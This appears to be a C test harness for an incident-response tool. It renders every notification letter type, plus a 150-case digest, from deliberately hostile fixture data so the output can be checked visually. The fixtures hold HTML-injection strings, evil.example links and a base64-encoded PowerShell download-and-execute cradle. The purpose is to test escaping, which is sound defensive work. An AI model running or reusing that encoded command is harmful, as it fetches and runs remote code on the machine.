/* look.c - `make look`: every kind of letter, composed by the server's own code of an alert that is as hostile as it is
 * long, as DIR/KIND.html and DIR/KIND.txt. tests/look/run makes pictures of them. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "buf.h"
#include "burst.h"
#include "letter_html.h"
#include "notice_letter.h"
#include "pause.h"
#include "store_bursts.h"

#define MACHINE "9c1f6f3d2b7a4e58a0d4c3b2e1f0a9b8c7d6e5f4"

static const char alert_doc[] =
    "{\"id\":\"da638712345678901234_-1027384756\",\"incidentId\":924521,\"severity\":\"High\","
    "\"title\":\"Sensitive credential memory read by https://evil.example/a.exe "
    "<b>[ISOLATED]</b>\",\"category\":\"CredentialAccess\","
    "\"alertCreationTime\":\"2026-01-07T03:12:45.1234567Z\","
    "\"relatedUser\":{\"userName\":\"j.doe\",\"domainName\":\"CORP\"}}";
static const char machine_doc[] =
    "{\"id\":\"" MACHINE "\",\"computerDnsName\":\"ws-114.emea.corp.contoso.example\"}";
static const char words[] =
    "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A"
    "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcA on ws-114\nCall the desk: +49 30 901820 (runbook 7).";

static int write_file(const char *dir, const char *kind, const char *end, const char *text)
{
    char path[400];
    FILE *f;

    (void)snprintf(path, sizeof path, "%s/%s.%s", dir, kind, end);
    f = fopen(path, "w");
    if (!f || fputs(text, f) < 0 || fclose(f)) {
        perror(path);
        return 1;
    }
    return 0;
}

/* A storm of 150 cases. */
static int look_at_digest(struct arena *arena, const char *dir)
{
    static const struct {
        const char *kind, *said;
    } states[] = {
        {"requested", "REQUESTED"},
        {"isolated", "ISOLATED"},
        {"isolated", "ISOLATED"},
        {"not_isolated", "NOT ISOLATED: the limit of 10 isolations in 60 minutes is reached"}};
    enum { ALL = 150 };
    static struct burst_notice notices[ALL];
    const struct burst_notice *list[ALL];
    struct letter l;
    int failed;

    for (size_t i = 0; i < ALL; i++) {
        notices[i] = (struct burst_notice){
            .id = (int64_t)i + 1,
            .case_id = 1234567890123456789 + (int64_t)i,
            .kind = states[i % 4].kind,
            .said = states[i % 4].said,
            .machine = arena_fmt(arena, "ws-%zu.emea.corp.contoso.example", i),
            .machine_id = arena_fmt(arena, "%040zx", i),
            .alert = i % 7 ? "High: Ransomware behaviour in the file system"
                           : "High: <a href=https://evil.example/>release me</a>",
            .thread = "contoso incident 924521",
            .rule = "contain-high",
        };
        list[i] = &notices[i];
    }
    burst_compose(&l, arena, list, ALL, &(struct pause){.on = false});
    letter_html_end(&l.html);
    (void)printf("%-14s %s\n", "digest", burst_subject(arena, list, ALL));
    failed = l.text.failed || l.html.failed ||
             write_file(dir, "digest", "html", buf_text(&l.html)) ||
             write_file(dir, "digest", "txt", buf_text(&l.text));
    letter_clear(&l);
    return failed;
}

int main(int argc, char **argv)
{
    struct config_tenant tenant = {.name = "contoso",
                                   .tenant_id = "0a4a1f60-98ab-4f0a-9d5e-0b1c2d3e4f50",
                                   .portal_url = "https://security.microsoft.com"};
    struct config config = {.tenants = &tenant, .n_tenants = 1};
    struct runtime rt = {.config = &config};
    struct arena *arena = arena_new(0);
    struct json *alert = NULL, *machine = NULL;
    const struct case_record c = {.id = 1234567890123456789,
                                  .tenant = "contoso",
                                  .alert_id = "da638712345678901234_-1027384756",
                                  .machine_id = MACHINE,
                                  .rule = "contain-high"};
    struct isolation_record isolation = {.id = 1,
                                         .type = "Full",
                                         .requested = 1767755565000,
                                         .confirmed = 1767755625000,
                                         .action_id = "c476b082-f166-4ec6-9fe8-55bb4899f70c"};
    const struct notice_question question = {
        .id = 1234567890123456780, .expires = 1767769965000, .people = 2, .action = "isolate full"};
    int failed = 0;

    if (argc != 2 || !arena || json_parse(alert_doc, strlen(alert_doc), &alert, NULL) ||
        json_parse(machine_doc, strlen(machine_doc), &machine, NULL))
        return 2;
    for (int kind = NOTICE_ALERT; kind <= NOTICE_ACTION_FAILED; kind++) {
        const struct facts facts = {.tenant = "contoso", .alert = alert, .machine = machine};
        const struct notice n = {
            .kind = (enum notice_kind)kind,
            .c = &c,
            .facts = &facts,
            .why = kind == NOTICE_NOT_ISOLATED || kind == NOTICE_LATE
                       ? "protected: machine.tags holds tier-0, see http://evil.example/"
                       : NULL,
            .isolation = kind == NOTICE_ALERT || kind == NOTICE_NOT_ISOLATED ? NULL : &isolation,
            .body = kind == NOTICE_NOT_ISOLATED || kind == NOTICE_ALERT ? words : NULL,
            .question = kind == NOTICE_QUESTION ? &question : NULL,
            .link = kind == NOTICE_ACTION_DONE ? "https://packages.example/x?sig=abc" : NULL,
        };
        const char *name = notice_kind_name(n.kind);
        struct letter l;

        isolation.state = kind == NOTICE_RELEASED    ? ISOLATION_RELEASED
                          : kind == NOTICE_REQUESTED ? ISOLATION_PENDING
                                                     : ISOLATION_ISOLATED;
        notice_compose(&l, &n, &rt, &(struct pause){0},
                       kind == NOTICE_QUESTION ? "https://cordon.contoso.example/approve/x" : NULL,
                       arena);
        letter_html_end(&l.html);
        failed |= l.text.failed || l.html.failed || !notice_subject(&n, arena) ||
                  write_file(argv[1], name, "html", buf_text(&l.html)) ||
                  write_file(argv[1], name, "txt", buf_text(&l.text));
        (void)printf("%-14s %s\n", name, notice_subject(&n, arena));
        letter_clear(&l);
    }
    failed |= look_at_digest(arena, argv[1]);
    json_free(alert);
    json_free(machine);
    arena_free(arena);
    return failed;
}
